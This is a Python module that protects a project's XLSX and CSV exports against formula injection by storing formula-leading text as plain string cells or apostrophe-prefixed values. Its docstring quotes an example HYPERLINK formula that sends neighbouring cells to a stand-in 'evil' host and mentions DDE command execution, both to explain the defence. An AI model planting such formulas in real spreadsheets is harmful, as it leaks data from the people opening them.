"""Writing untrusted text into spreadsheets without it becoming a formula (CSV/formula injection).

A reporter's comment, an indicator name read from an uploaded document or an agency's name can
start with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return. Excel and LibreOffice take such
a cell as a formula: ``=HYPERLINK("http://evil/?"&A1, "Xem")`` becomes a live link that leaks
the neighbouring cells, ``=cmd|...`` once ran programs (DDE). Every XLSX and CSV writer of the
project passes its cells through this module (OWASP "CSV Injection" advice):

* XLSX: :func:`set_cell` / :func:`append_row` store such text as a *string* cell with the
  ``quotePrefix`` style, the way Excel itself stores text typed after an apostrophe: the reader
  sees exactly the text, nothing is evaluated, and editing the cell keeps it text. openpyxl would
  otherwise store any string starting with ``=`` as a formula.
* CSV has no types, so :func:`csv_safe` prefixes such text with an apostrophe.

Real numbers (``int``, ``float``, ``Decimal``), dates and ``None`` are written unchanged, so sums
and number formats keep working; a string that is only a signed number (``-12,5``) is not a
formula either and stays as it is.

Django-free on purpose: the export renderers import it without settings.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Sequence
from typing import Any

# Characters that make a spreadsheet program parse the cell as a formula (or, for tab and CR,
# let a following character do so once the cell is pasted or re-imported).
FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r", "\n")
# A plain signed number, e.g. "-5", "+1.234,5", "-12%": harmless, kept readable.
_PLAIN_NUMBER = re.compile(r"^[+-]?\d[\d.,  ]*%?$")


def is_dangerous(value: Any) -> bool:
    """True when ``value`` is text that a spreadsheet would read as a formula."""
    if not isinstance(value, str) or not value:
        return False
    if not value.startswith(FORMULA_LEADS):
        return False
    return not _PLAIN_NUMBER.match(value)


def csv_safe(value: Any) -> Any:
    """The value to hand to ``csv.writer``: formula-leading text gets a leading apostrophe."""
    return "'" + value if is_dangerous(value) else value


def csv_safe_row(values: Iterable[Any]) -> list[Any]:
    """A whole CSV row through :func:`csv_safe`."""
    return [csv_safe(v) for v in values]


def set_cell(sheet: Any, row: int, column: int, value: Any) -> Any:
    """``sheet.cell(row, column, value)`` that never stores text as a formula; returns the cell."""
    cell = sheet.cell(row=row, column=column)
    if is_dangerous(value):
        return _text_cell(cell, value)
    cell.value = value
    return cell


def append_row(sheet: Any, values: Sequence[Any]) -> None:
    """``sheet.append(values)`` that never stores text as a formula.

    openpyxl's ``append`` accepts ready cells (its write-only compatible path) and places them
    itself (the row and column given here are replaced), so the row lands exactly where a plain
    ``append`` would put it.
    """
    from openpyxl.cell.cell import Cell

    sheet.append([_text_cell(Cell(sheet, row=1, column=1), v) if is_dangerous(v) else v for v in values])


def _text_cell(cell: Any, value: str) -> Any:
    cell.value = value
    cell.data_type = "s"
    cell.quotePrefix = True
    return cell
